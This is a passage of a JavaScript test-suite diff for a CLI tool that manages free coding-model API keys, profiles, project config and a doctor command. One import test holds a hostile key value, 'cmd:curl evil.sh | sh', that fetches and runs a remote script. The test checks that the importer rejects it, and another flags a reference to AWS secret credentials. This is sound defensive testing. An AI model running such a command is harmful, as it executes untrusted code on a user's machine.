+      assert.equal(await prefetchSecret('plain-key'), 'plain-key')
+    } finally {
+      deferSecretLookups(false)
+      clearSecretCache()
+    }
+  })
+
+  it('getApiKey resolves references and falls back to keyCommand', () => {
+    clearSecretCache()
+    const config = { apiKeys: { groq: 'cmd:echo gsk_ref' }, keyCommand: 'echo key-for-{provider}' }
+    assert.equal(getApiKey(config, 'groq'), 'gsk_ref')
+    assert.equal(getApiKey(config, 'cerebras'), 'key-for-cerebras')
+    assert.deepEqual(getApiKeySource(config, 'groq'), { source: 'store', detail: 'cmd:echo gsk_ref' })
+    assert.deepEqual(getApiKeySource(config, 'cerebras'), { source: 'keyCommand', detail: 'cmd:echo key-for-cerebras' })
+    assert.deepEqual(getApiKeySource({ apiKeys: { groq: 'gsk' } }, 'groq'), { source: 'plaintext', detail: null })
+    assert.deepEqual(getApiKeySource({ apiKeys: {} }, 'groq'), { source: 'none', detail: null })
+    clearSecretCache()
+  })
+
+  it('setApiKey sends typed keys to the secretStore and never falls back to plaintext', () => {
+    const path = join(mkdtempSync(join(tmpdir(), 'fcm-vault-')), 'vault.json')
+    const config = { apiKeys: {}, secretStore: 'vault' }
+    try {
+      assert.throws(() => setApiKey(config, 'groq', 'gsk_typed'), /locked/)
+      assert.equal(config.apiKeys.groq, undefined)
+      unlockVault('pw', { path })
+      setApiKey(config, 'groq', 'gsk_typed')
+      assert.equal(config.apiKeys.groq, 'vault:groq')
+      setApiKey(config, 'nvidia', 'op://Private/NVIDIA/credential')
+      assert.equal(config.apiKeys.nvidia, 'op://Private/NVIDIA/credential')
+      const plain = { apiKeys: {} }
+      setApiKey(plain, 'groq', 'gsk_plain')
+      assert.equal(plain.apiKeys.groq, 'gsk_plain')
+    } finally {
+      lockVault()
+    }
+  })
+
+  it('migrates plaintext keys from every profile, storing each distinct key once', () => {
+    const config = {
+      apiKeys: { groq: 'gsk_a', nvidia: 'nvapi_a', cerebras: 'vault:cerebras' },
+      profiles: {
+        work: { apiKeys: { groq: 'gsk_b', nvidia: 'nvapi_a' } },
+        home: { apiKeys: { groq: 'gsk_a', cerebras: 'csk_new' } },
+      },
+    }
+    const saved = {}
+    const result = migrateApiKeys(config, (name, value) => { saved[name] = value; return `vault:${name}` })
+    assert.deepEqual(saved, { groq: 'gsk_a', nvidia: 'nvapi_a', 'groq-work': 'gsk_b', 'cerebras-home': 'csk_new' })
+    assert.deepEqual(result, { stored: ['groq', 'nvidia', 'groq-work', 'cerebras-home'], replaced: 6 })
+    assert.deepEqual(config.apiKeys, { groq: 'vault:groq', nvidia: 'vault:nvidia', cerebras: 'vault:cerebras' })
+    assert.deepEqual(config.profiles.work.apiKeys, { groq: 'vault:groq-work', nvidia: 'vault:nvidia' })
+    assert.deepEqual(config.profiles.home.apiKeys, { groq: 'vault:groq', cerebras: 'vault:cerebras-home' })
+    assert.equal(JSON.stringify(config).includes('gsk_'), false)
+  })
+
+  it('parses the secrets subcommand and --store', () => {
+    const args = parseArgs(['node', 'script', 'secrets', 'migrate', '--store', 'PASS'])
+    assert.equal(args.command, 'secrets')
+    assert.deepEqual(args.commandArgs, ['migrate'])
+    assert.equal(args.store, 'pass')
+    assert.equal(args.apiKey, null)
+    assert.ok(CLI_COMMANDS.includes('secrets'))
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 27. PROJECT CONFIG — .free-coding-models.json / fcm.config.json layered over the global config
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('project config', () => {
+  const withProject = (config, values, path = '/repo/.free-coding-models.json') => {
+    Object.defineProperty(config, 'projectConfig', { value: { path, values, errors: [] }, enumerable: false })
+    return config
+  }
+
+  it('finds the nearest file walking up, preferring .free-coding-models.json', () => {
+    const root = mkdtempSync(join(tmpdir(), 'fcm-project-'))
+    const deep = join(root, 'a', 'b')
+    mkdirSync(deep, { recursive: true })
+    assert.equal(findProjectConfig(deep), null)
+    writeFileSync(join(root, 'fcm.config.json'), '{}')
+    assert.equal(findProjectConfig(deep), join(root, 'fcm.config.json'))
+    writeFileSync(join(root, '.free-coding-models.json'), '{}')
+    assert.equal(findProjectConfig(deep), join(root, '.free-coding-models.json'))
+    writeFileSync(join(root, 'a', 'fcm.config.json'), '{}')
+    assert.equal(findProjectConfig(deep), join(root, 'a', 'fcm.config.json'))
+  })
+
+  it('keeps valid policy and reports keys, unknown entries and bad types', () => {
+    const { values, errors } = normalizeProjectConfig({
+      providers: { groq: { enabled: false }, nvidia: 'off' },
+      favorites: ['groq/llama', 42],
+      tierFilter: 's',
+      target: 'Aider',
+      recommend: { task: 'Refactor', priority: 5 },
+      apiKeys: { groq: 'gsk_x' },
+      colour: 'red',
+    })
+    assert.deepEqual(values, {
+      providers: { groq: { enabled: false } },
+      favorites: ['groq/llama'],
+      tierFilter: 'S',
+      target: 'aider',
+      recommend: { task: 'refactor' },
+    })
+    assert.equal(errors.length, 5)
+    assert.ok(errors.some(e => e.includes('"apiKeys" is ignored')))
+    assert.ok(errors.some(e => e.includes('unknown key "colour"')))
+    assert.deepEqual(normalizeProjectConfig([]).errors, ['the file must contain a JSON object'])
+  })
+
+  it('layers providers, favorites and the tier filter over the personal config', () => {
+    const config = withProject({
+      providers: { groq: { enabled: true }, cerebras: { enabled: false } },
+      favorites: ['nvidia/x', 'groq/llama'],
+      settings: { tierFilter: 'A', sortColumn: 'rank' },
+      profiles: {},
+    }, { providers: { groq: { enabled: false } }, favorites: ['groq/llama', 'cerebras/y'], tierFilter: 'S' })
+    assert.equal(isProviderEnabled(config, 'groq'), false)
+    assert.equal(isProviderEnabled(config, 'cerebras'), false)
+    assert.equal(isProviderEnabled(config, 'nvidia'), true)
+    assert.deepEqual(getFavorites(config), ['groq/llama', 'cerebras/y', 'nvidia/x'])
+    assert.equal(getSettings(config).tierFilter, 'S')
+    assert.equal(getSettings(config).sortColumn, 'rank')
+    const sources = getSettingSources(config)
+    assert.equal(sources.tierFilter, 'project')
+    assert.equal(sources.sortColumn, 'global')
+    assert.equal(sources.pingInterval, 'defaults')
+  })
+
+  it('exposes the precedence chain, active profile included', () => {
+    const config = withProject({ activeProfile: 'work', profiles: { work: { settings: { sortColumn: 'tier' } } } }, {})
+    assert.deepEqual(getConfigLayers(config).map(l => l.layer), ['cli', 'project', 'profile', 'global', 'defaults'])
+    assert.equal(getConfigLayers(config)[2].name, 'work')
+    assert.equal(getSettingSources(config).sortColumn, 'profile')
+    assert.deepEqual(getConfigLayers({}).map(l => l.layer), ['cli', 'global', 'defaults'])
+  })
+
+  it('loadConfig attaches the project layer without ever serializing it', () => {
+    const root = mkdtempSync(join(tmpdir(), 'fcm-project-'))
+    writeFileSync(join(root, 'fcm.config.json'), '// team policy\n{ "tierFilter": "B", "favorites": ["groq/team-pick"] }')
+    const config = loadConfig({ cwd: root })
+    assert.equal(getProjectConfig(config).path, join(root, 'fcm.config.json'))
+    assert.equal(getProjectConfig(config).values.tierFilter, 'B')
+    assert.equal(JSON.stringify(config).includes('team-pick'), false)
+    assert.equal(getProjectConfig(loadConfig({ cwd: null })), null)
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 28. CONFIG SCHEMA & DOCTOR — versioned config migrations, validation, environment checks
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('config schema', () => {
+  it('migrates an unversioned config and stamps the version', () => {
+    const config = {
+      apiKeys: { groq: 'gsk_x', nvidia: '' },
+      providers: { groq: false, nvidia: { enabled: true }, junk: 3 },
+      favorites: ['groq/a', '', 7],
+      activeProfile: 'gone',
+      profiles: { work: { apiKeys: { groq: 'gsk_y' } }, broken: 'x' },
+    }
+    assert.equal(pendingMigrations(config).length, 1)
+    const { applied, tooNew } = migrateConfig(config)
+    assert.equal(tooNew, false)
+    assert.equal(applied.length, 1)
+    assert.equal(config.configVersion, CONFIG_VERSION)
+    assert.deepEqual(config.providers, { groq: { enabled: false }, nvidia: { enabled: true } })
+    assert.deepEqual(config.apiKeys, { groq: 'gsk_x' })
+    assert.deepEqual(config.favorites, ['groq/a'])
+    assert.equal(config.activeProfile, null)
+    assert.deepEqual(Object.keys(config.profiles), ['work'])
+    assert.deepEqual(config.profiles.work, { apiKeys: { groq: 'gsk_y' } }, 'missing sections stay inherited')
+    assert.deepEqual(migrateConfig(config).applied, [])
+  })
+
+  it('leaves a config from a newer release untouched', () => {
+    const config = { configVersion: CONFIG_VERSION + 1, providers: { groq: false } }
+    assert.equal(migrateConfig(config).tooNew, true)
+    assert.deepEqual(config.providers, { groq: false })
+    assert.ok(validateConfig(config).some(i => i.severity === 'error' && i.path === 'configVersion'))
+  })
+
+  it('reports wrong types, unknown providers and dangling references with a fix', () => {
+    const issues = validateConfig({
+      configVersion: CONFIG_VERSION,
+      apiKeys: { groq: 'gsk_x', nope: 'x' },
+      providers: {},
+      favorites: [],
+      settings: { ..._emptyProfileSettings(), pingInterval: 'fast' },
+      secretStore: 'keychain',
+      activeProfile: 'missing',
+      profiles: {},
+      colour: 'red',
+    }, { providerKeys: ['groq'] })
+    const byPath = Object.fromEntries(issues.map(i => [i.path, i]))
+    assert.equal(byPath['apiKeys.nope'].severity, 'warning')
+    assert.equal(byPath['settings.pingInterval'].severity, 'error')
+    assert.equal(byPath.secretStore.severity, 'error')
+    assert.equal(byPath.activeProfile.severity, 'error')
+    assert.equal(byPath.colour.severity, 'warning')
+    assert.ok(issues.every(i => typeof i.fix === 'string' && i.fix.length > 0))
+    assert.deepEqual(validateConfig(loadConfig({ cwd: null }), { providerKeys: Object.keys(sources) }).filter(i => i.severity === 'error'), [])
+  })
+})
+
+describe('doctor', () => {
+  it('parses doctor --fix --json', () => {
+    const args = parseArgs(['node', 'script', 'doctor', '--fix', '--json'])
+    assert.equal(args.command, 'doctor')
+    assert.equal(args.fix, true)
+    assert.equal(args.jsonMode, true)
+    assert.equal(parseArgs(['node', 'script']).fix, false)
+  })
+
+  it('finds executables on a given PATH only', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'fcm-doctor-bin-'))
+    writeFileSync(join(dir, 'opencode'), '#!/bin/sh\n', { mode: 0o755 })
+    writeFileSync(join(dir, 'notexec'), 'x', { mode: 0o644 })
+    assert.equal(findExecutable('opencode', { pathEnv: dir, platform: 'linux' }), join(dir, 'opencode'))
+    assert.equal(findExecutable('notexec', { pathEnv: dir, platform: 'linux' }), null)
+    assert.equal(findExecutable('openclaw', { pathEnv: dir, platform: 'linux' }), null)
+  })
+
+  it('checks writability through the closest existing parent', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'fcm-doctor-w-'))
+    assert.deepEqual(checkWritable(dir), { ok: true, detail: 'writable' })
+    const nested = checkWritable(join(dir, 'a', 'b.json'))
+    assert.equal(nested.ok, true)
+    assert.ok(nested.detail.includes('will be created'))
+  })
+
+  it('counts any HTTP answer as reachable and classifies failures', async () => {
+    assert.deepEqual(await checkReachable('https://x.test', { fetchImpl: async () => ({ status: 401 }) }), { ok: true, status: 401, error: null })
+    const down = await checkReachable('https://x.test', {
+      fetchImpl: async () => { throw Object.assign(new TypeError('fetch failed'), { cause: { code: 'ENOTFOUND' } }) },
+    })
+    assert.equal(down.ok, false)
+    assert.equal(typeof down.error, 'string')
+  })
+
+  it('reports config, keys, tools, paths and network with fixes', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'fcm-doctor-'))
+    writeFileSync(join(dir, 'opencode.json'), '{ "provider": ')
+    const config = { apiKeys: { groq: 'gsk_plaintext_key' }, providers: { fake: { enabled: false } } }
+    migrateConfig(config)
+    const fakeSources = {
+      groq: { name: 'Groq', url: 'https://api.groq.test/openai/v1/chat/completions' },
+      fake: { name: 'Fake', url: 'https://fake.test/v1/chat/completions' },
+    }
+    const fetched = []
+    const report = await runDoctor({
+      config,
+      rawConfig: { apiKeys: { groq: 'gsk_plaintext_key' } },
+      sources: fakeSources,
+      paths: {
+        config: join(dir, 'config.json'),
+        dataDir: join(dir, 'data'),
+        opencode: join(dir, 'opencode.json'),
+        openclaw: join(dir, 'openclaw', 'openclaw.json'),
+        openclawModels: join(dir, 'openclaw', 'models.json'),
+      },
+      env: {},
+      fetchImpl: async (url) => { fetched.push(url); return { status: 404 } },
+      findExecutableImpl: () => null,
+    })
+    const section = (name) => report.find(r => r.section === name).checks
+    assert.deepEqual(report.map(r => r.section), ['Config', 'API keys', 'Tools', 'Paths', 'Network'])
+    assert.equal(section('Config')[0].status, 'warn')
+    assert.equal(section('Config')[0].fix, 'free-coding-models doctor --fix')
+    const groq = section('API keys').find(c => c.name === 'Groq')
+    assert.equal(groq.status, 'warn')
+    assert.equal(groq.fix, 'free-coding-models secrets migrate')
+    const opencodeFile = section('Tools').find(c => c.name === join(dir, 'opencode.json'))
+    assert.equal(opencodeFile.status, 'fail')
+    assert.ok(opencodeFile.fix.includes('rollback --target opencode'))
+    assert.ok(section('Paths').every(c => c.status === 'ok'))
+    assert.deepEqual(fetched, ['https://api.groq.test'])
+    assert.equal(doctorExitCode(report), 1)
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 29. PROFILE SHARING — profile export / import files without keys
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('profile sharing', () => {
+  const config = {
+    profiles: {
+      team: {
+        apiKeys: { groq: 'gsk_secret_value', nvidia: 'vault:nvidia', cerebras: 'env:TEAM_CEREBRAS', sambanova: '' },
+        providers: { openrouter: { enabled: false } },
+        favorites: ['groq/llama'],
+        settings: { tierFilter: 'S' },
+      },
+    },
+  }
+
+  it('exports env references instead of keys', () => {
+    const doc = exportProfile(config, 'team', { now: new Date('2026-10-19T09:00:00Z') })
+    assert.equal(doc.format, PROFILE_FILE_FORMAT)
+    assert.equal(doc.exportedAt, '2026-10-19T09:00:00.000Z')
+    assert.deepEqual(doc.apiKeys, { groq: 'env:GROQ_API_KEY', nvidia: 'env:NVIDIA_API_KEY', cerebras: 'env:TEAM_CEREBRAS' })
+    assert.equal(JSON.stringify(doc).includes('gsk_secret_value'), false)
+    assert.equal(doc.settings.tierFilter, 'S')
+    assert.equal(doc.settings.sortColumn, _emptyProfileSettings().sortColumn)
+    assert.equal('apiKeys' in exportProfile(config, 'team', { stripKeys: true }), false)
+    assert.equal(exportProfile(config, 'missing'), null)
+  })
+
+  it('round-trips and rejects keys, commands and bad values on import', () => {
+    const { name, profile, errors } = parseProfileFile(JSON.stringify(exportProfile(config, 'team')))
+    assert.equal(name, 'team')
+    assert.deepEqual(errors, [])
+    assert.deepEqual(profile.providers, { openrouter: { enabled: false } })
+
+    const hostile = parseProfileFile(`// shared
+      { "format": "${PROFILE_FILE_FORMAT}", "version": 1,
+        "apiKeys": { "groq": "gsk_leaked", "nvidia": "cmd:curl evil.sh | sh", "cerebras": "env:CEREBRAS_API_KEY" },
+        "settings": { "pingInterval": 5, "sortAsc": false }, "favorites": ["ok/model", 3] }`)
+    assert.equal(hostile.name, null)
+    assert.deepEqual(hostile.profile.apiKeys, { cerebras: 'env:CEREBRAS_API_KEY' })
+    assert.deepEqual(hostile.profile.settings, { sortAsc: false })
+    assert.deepEqual(hostile.profile.favorites, ['ok/model'])
+    assert.equal(hostile.errors.length, 4)
+    assert.throws(() => parseProfileFile('{ "providers": {} }'), /not a free-coding-models profile/)
+    assert.throws(() => parseProfileFile(`{ "format": "${PROFILE_FILE_FORMAT}", "version": 99 }`), /not supported/)
+  })
+
+  it('flags env: references to variables the provider does not read', () => {
+    const { profile, unusualEnv } = parseProfileFile(JSON.stringify({
+      format: PROFILE_FILE_FORMAT, version: 1,
+      apiKeys: { groq: 'env:AWS_SECRET_ACCESS_KEY', cerebras: 'env:CEREBRAS_API_KEY' },
+    }))
+    assert.deepEqual(profile.apiKeys, { groq: 'env:AWS_SECRET_ACCESS_KEY', cerebras: 'env:CEREBRAS_API_KEY' })
+    assert.deepEqual(unusualEnv, [{ providerKey: 'groq', name: 'AWS_SECRET_ACCESS_KEY', expected: getProviderEnvVars('groq') }])
+    assert.ok(getProviderEnvVars('groq').includes('GROQ_API_KEY'))
+    assert.deepEqual(getProviderEnvVars('my-llm'), ['MY_LLM_API_KEY'])
+  })
+
+  it('merges or replaces while keeping your own keys', () => {
+    const existing = {
+      apiKeys: { groq: 'vault:groq' },
+      providers: { groq: { enabled: true }, openrouter: { enabled: true } },
+      favorites: ['nvidia/mine', 'groq/llama'],
+      settings: { ..._emptyProfileSettings(), sortColumn: 'tier' },
+    }
+    const incoming = {
+      apiKeys: { groq: 'env:GROQ_API_KEY', cerebras: 'env:CEREBRAS_API_KEY' },
+      providers: { openrouter: { enabled: false } },
+      favorites: ['groq/llama', 'cerebras/big'],
+      settings: { tierFilter: 'A' },
+    }
+    const merged = mergeImportedProfile(existing, incoming)
+    assert.deepEqual(merged.apiKeys, { groq: 'vault:groq', cerebras: 'env:CEREBRAS_API_KEY' })
+    assert.deepEqual(merged.providers, { groq: { enabled: true }, openrouter: { enabled: false } })
+    assert.deepEqual(merged.favorites, ['nvidia/mine', 'groq/llama', 'cerebras/big'])
+    assert.equal(merged.settings.sortColumn, 'tier')
+    assert.equal(merged.settings.tierFilter, 'A')
+
+    const replaced = mergeImportedProfile(existing, incoming, { replace: true })
+    assert.deepEqual(replaced.apiKeys, merged.apiKeys)
+    assert.deepEqual(replaced.providers, { openrouter: { enabled: false } })
+    assert.deepEqual(replaced.favorites, ['groq/llama', 'cerebras/big'])
+    assert.equal(replaced.settings.sortColumn, _emptyProfileSettings().sortColumn)
+    assert.deepEqual(mergeImportedProfile(null, incoming).apiKeys, incoming.apiKeys)
+  })
+
+  it('keeps a profile that extends another partial when merging into it', () => {
+    const cfg = {
+      profiles: {
+        work: {
+          apiKeys: { groq: 'vault:groq' },
+          providers: { openrouter: { enabled: false } },
+          favorites: ['groq/llama'],
+          settings: { ..._emptyProfileSettings(), tierFilter: 'A' },
+        },
+        fast: { extends: 'work', settings: { sortColumn: 'tier' } },
+      },
+    }
+    const incoming = {
+      apiKeys: { groq: 'env:GROQ_API_KEY', cerebras: 'env:CEREBRAS_API_KEY' },
+      providers: { openrouter: { enabled: false }, nvidia: { enabled: false } },
+      favorites: ['groq/llama'],
+      settings: { tierFilter: 'A', pingInterval: 5000 },
+    }
+    const inherited = resolveProfile(cfg, 'work')
+    const merged = mergeImportedProfile(cfg.profiles.fast, incoming, { inherited })
+    assert.deepEqual(merged, {
+      extends: 'work',
+      apiKeys: { cerebras: 'env:CEREBRAS_API_KEY' },
+      providers: { nvidia: { enabled: false } },
+      settings: { sortColumn: 'tier', pingInterval: 5000 },
+    })
+    // 📖 New favorites are stored — the parent's list plus the additions
+    const more = mergeImportedProfile(cfg.profiles.fast, { ...incoming, favorites: ['cerebras/big'] }, { inherited })
+    assert.deepEqual(more.favorites, ['groq/llama', 'cerebras/big'])
+    // 📖 An own override is dropped when the file sets the parent's value again
+    const back = mergeImportedProfile({ extends: 'work', settings: { tierFilter: 'S' } }, incoming, { inherited })
+    assert.deepEqual(back.settings, { pingInterval: 5000 })
+    cfg.profiles.fast = merged
+    assert.equal(resolveProfile(cfg, 'fast').apiKeys.groq, 'vault:groq')
+  })
+
+  it('profile import saves a keyless file into an extending profile and exits 0', () => {
+    const home = mkdtempSync(join(tmpdir(), 'fcm-import-'))
+    writeFileSync(join(home, '.free-coding-models.json'), JSON.stringify({
+      apiKeys: {},
+      profiles: {
+        work: { apiKeys: { groq: 'vault:groq' }, providers: {}, favorites: [], settings: {} },
+        fast: { extends: 'work', settings: { sortColumn: 'tier' } },
+      },
+    }))
+    writeFileSync(join(home, 'team.json'), JSON.stringify({ format: PROFILE_FILE_FORMAT, version: 1, name: 'fast', settings: { pingInterval: 5000 } }))
+    const run = spawnSync(process.execPath, [join(ROOT, 'bin/free-coding-models.js'), 'profile', 'import', join(home, 'team.json')], {
+      env: { ...process.env, HOME: home }, input: 'y\n', encoding: 'utf8', timeout: 30_000,
+    })
+    assert.equal(run.status, 0, run.stderr)
+    const saved = JSON.parse(readFileSync(join(home, '.free-coding-models.json'), 'utf8')).profiles.fast
+    assert.deepEqual(saved, { extends: 'work', settings: { sortColumn: 'tier', pingInterval: 5000 } })
+  })
+
+  it('never writes over a config file that did not parse', () => {
+    const home = mkdtempSync(join(tmpdir(), 'fcm-import-'))
+    const broken = '{ "apiKeys": { "groq": "gsk_keep_me" }, oops }'
+    writeFileSync(join(home, '.free-coding-models.json'), broken)
+    writeFileSync(join(home, 'team.json'), JSON.stringify({ format: PROFILE_FILE_FORMAT, version: 1, name: 'team' }))
+    const run = spawnSync(process.execPath, [join(ROOT, 'bin/free-coding-models.js'), 'profile', 'import', join(home, 'team.json')], {
+      env: { ...process.env, HOME: home }, input: 'y\n', encoding: 'utf8', timeout: 30_000,
+    })
+    assert.equal(run.status, 1)
+    assert.match(run.stderr, /could not be read/)
+    assert.equal(readFileSync(join(home, '.free-coding-models.json'), 'utf8'), broken)
+    // 📖 saveConfig itself refuses too — run where HOME (and so CONFIG_PATH) is the temp dir
+    const save = spawnSync(process.execPath, ['--input-type=module', '-e', `
+      const { loadConfig, saveConfig } = await import(${JSON.stringify(join(ROOT, 'lib/config.js'))})
+      const config = loadConfig({ cwd: null })
+      config.apiKeys.groq = 'replaced'
+      process.stdout.write(String(saveConfig(config)))`], { env: { ...process.env, HOME: home }, encoding: 'utf8', timeout: 30_000 })
+    assert.equal(save.stdout, 'false', save.stderr)
+    assert.equal(readFileSync(join(home, '.free-coding-models.json'), 'utf8'), broken)
+  })
+
+  it('resolves env: references and parses the profile flags', () => {
+    process.env.FCM_TEST_SHARED_KEY = ' shared-key '
+    assert.equal(resolveSecret('env:FCM_TEST_SHARED_KEY'), 'shared-key')
+    delete process.env.FCM_TEST_SHARED_KEY
+    assert.equal(resolveSecret('env:FCM_TEST_SHARED_KEY'), null)
+    assert.equal(secretErrors().get('env:FCM_TEST_SHARED_KEY'), 'FCM_TEST_SHARED_KEY is not set')
+
+    const args = parseArgs(['node', 'script', 'profile', 'import', 'https://x.test/team.json', '--name', 'acme', '--replace'])
+    assert.equal(args.command, 'profile')
+    assert.deepEqual(args.commandArgs, ['import', 'https://x.test/team.json'])
+    assert.equal(args.importName, 'acme')
+    assert.equal(args.replaceMode, true)
+    assert.equal(parseArgs(['node', 'script', 'profile', 'export', 'team', '--strip-keys']).stripKeys, true)
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 30. PROFILE INHERITANCE — "extends", partial profiles, origins
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('profile inheritance', () => {
+  function chainConfig() {
+    return {
+      apiKeys: {},
+      providers: {},
+      favorites: [],
+      settings: _emptyProfileSettings(),
+      activeProfile: null,
+      profiles: {
+        work: {
+          apiKeys: { groq: 'gsk_work', cerebras: 'csk_work' },
+          providers: { groq: { enabled: true } },
+          favorites: ['groq/llama'],
+          settings: { ..._emptyProfileSettings(), sortColumn: 'rank', pingInterval: 5000 },
+        },
+        fast: {
+          extends: 'work',
+          apiKeys: { cerebras: '' },
+          providers: { openrouter: { enabled: false } },
+          settings: { tierFilter: 'S' },
+        },
+      },
+    }
+  }
+
+  it('resolves a child over its parent and records where each value comes from', () => {
+    const config = chainConfig()
+    assert.deepEqual(getProfileChain(config, 'fast'), ['fast', 'work'])
+    const fast = resolveProfile(config, 'fast')
+    assert.deepEqual(fast.chain, ['fast', 'work'])
+    assert.deepEqual(fast.apiKeys, { groq: 'gsk_work', cerebras: '' })
+    assert.deepEqual(fast.providers, { groq: { enabled: true }, openrouter: { enabled: false } })
+    assert.deepEqual(fast.favorites, ['groq/llama'])
+    assert.equal(fast.settings.tierFilter, 'S')
+    assert.equal(fast.settings.sortColumn, 'rank')
+    assert.equal(fast.origins.settings.tierFilter, 'fast')
+    assert.equal(fast.origins.settings.sortColumn, 'work')
+    assert.equal(fast.origins.apiKeys.groq, 'work')
+    assert.equal(fast.origins.favorites, 'work')
+    assert.equal(resolveProfile(config, 'nope'), null)
+
+    const settings = loadProfile(config, 'fast')
+    assert.deepEqual(config.apiKeys, { groq: 'gsk_work' }, 'an empty override removes the inherited key')
+    assert.equal(settings.pingInterval, 5000)
+    assert.equal(getSettingSources(config).tierFilter, 'profile')
+
+    // 📖 Editing the parent flows through to the child
+    config.profiles.work.apiKeys.groq = 'gsk_rotated'
+    assert.equal(resolveProfile(config, 'fast').apiKeys.groq, 'gsk_rotated')
+  })
+
+  it('falls back to the global settings only when no profile in the chain has settings', () => {
+    const config = chainConfig()
+    config.settings.sortColumn = 'tier'
+    config.profiles.bare = { apiKeys: { groq: 'x' } }
+    config.profiles.child = { extends: 'bare', favorites: [] }
+    assert.equal(resolveProfile(config, 'child').settings.sortColumn, 'tier')
+    assert.equal(resolveProfile(config, 'child').origins.settings.sortColumn, 'global')
+    config.profiles.partial = { settings: { tierFilter: 'A' } }
+    assert.equal(resolveProfile(config, 'partial').settings.sortColumn, _emptyProfileSettings().sortColumn)
+    assert.equal(resolveProfile(config, 'partial').origins.settings.sortColumn, 'defaults')
+  })
+
+  it('stops at cycles and missing parents', () => {
+    const config = chainConfig()
+    config.profiles.a = { extends: 'b', settings: { sortColumn: 'tier' } }
+    config.profiles.b = { extends: 'a' }
+    config.profiles.orphan = { extends: 'ghost' }
+    assert.deepEqual(getProfileChain(config, 'a'), ['a', 'b'])
+    assert.deepEqual(getProfileChain(config, 'orphan'), ['orphan'])
+    assert.equal(resolveProfile(config, 'a').settings.sortColumn, 'tier')
+
+    const issues = validateConfig(config)
+    assert.ok(issues.some(i => i.severity === 'error' && i.path === 'profiles.orphan.extends'))
+    assert.ok(issues.some(i => i.severity === 'error' && i.path === 'profiles.a.extends' && i.message.includes('circular')))
+    assert.ok(!issues.some(i => i.path === 'profiles.fast.extends'))
+  })
+
+  it('saves only the values that differ from the parent', () => {
+    const config = chainConfig()
+    loadProfile(config, 'work')
+    config.providers.nvidia = { enabled: false }
+    saveAsProfile(config, 'quiet', { ...config.profiles.work.settings, sortAsc: false }, { parent: 'work' })
+    assert.deepEqual(config.profiles.quiet, {
+      extends: 'work',
+      providers: { nvidia: { enabled: false } },
+      settings: { sortAsc: false },
+    })
+
+    // 📖 Re-saving keeps the existing parent; a parent that would loop is ignored
+    saveAsProfile(config, 'quiet', { ...config.profiles.work.settings })
+    assert.deepEqual(config.profiles.quiet, { extends: 'work', providers: { nvidia: { enabled: false } } })
+    saveAsProfile(config, 'work', config.profiles.work.settings, { parent: 'quiet' })
+    assert.equal(config.profiles.work.extends, undefined)
+    assert.equal(config.profiles.work.apiKeys.groq, 'gsk_work')
+  })
+
+  it('drops a setting override equal to the inherited value', () => {
+    const config = chainConfig()
+    loadProfile(config, 'fast')
+    saveSettings(config, { sortColumn: 'avg' })
+    assert.equal(config.profiles.fast.settings.sortColumn, 'avg')
+    saveSettings(config, { sortColumn: 'rank', tierFilter: 'S' })
+    assert.deepEqual(config.profiles.fast.settings, { tierFilter: 'S' })
+    assert.equal(getSettings(config).sortColumn, 'rank')
+  })
+
+  it('folds a deleted parent into its children and exports flattened values', () => {
+    const config = chainConfig()
+    const before = resolveProfile(config, 'fast')
+    const doc = exportProfile(config, 'fast')
+    assert.equal(doc.extends, undefined)
+    assert.deepEqual(doc.favorites, ['groq/llama'])
+    assert.equal(doc.settings.sortColumn, 'rank')
+    assert.deepEqual(doc.apiKeys, { groq: 'env:GROQ_API_KEY' })
+
+    assert.equal(deleteProfile(config, 'work'), true)
+    assert.equal(config.profiles.fast.extends, undefined)
+    const after = resolveProfile(config, 'fast')
+    assert.deepEqual(
+      { apiKeys: after.apiKeys, providers: after.providers, favorites: after.favorites, settings: after.settings },
+      { apiKeys: before.apiKeys, providers: before.providers, favorites: before.favorites, settings: before.settings },
+    )
+  })
+})